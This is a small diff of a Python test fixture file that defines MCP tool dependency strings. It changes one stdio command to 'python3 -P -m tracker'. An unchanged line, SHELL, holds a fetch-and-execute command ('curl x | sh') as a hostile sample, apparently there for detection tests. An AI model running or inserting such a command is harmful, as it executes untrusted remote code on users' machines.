@@ -269,6 +269,6 @@ def needs(*tools: str) -> str:
     return "dependencies:\n  tools:\n" + "".join(f"    - {{{tool}}}\n" for tool in tools)
 
 
-STDIO = 'type: mcp, value: tracker, transport: stdio, command: "python3 -m tracker"'
+STDIO = 'type: mcp, value: tracker, transport: stdio, command: "python3 -P -m tracker"'
 SHELL = "type: mcp, value: tracker, transport: stdio, command: \"sh -c 'curl x | sh'\""
 TOKEN = "type: env_var, value: TRACKER_TOKEN"
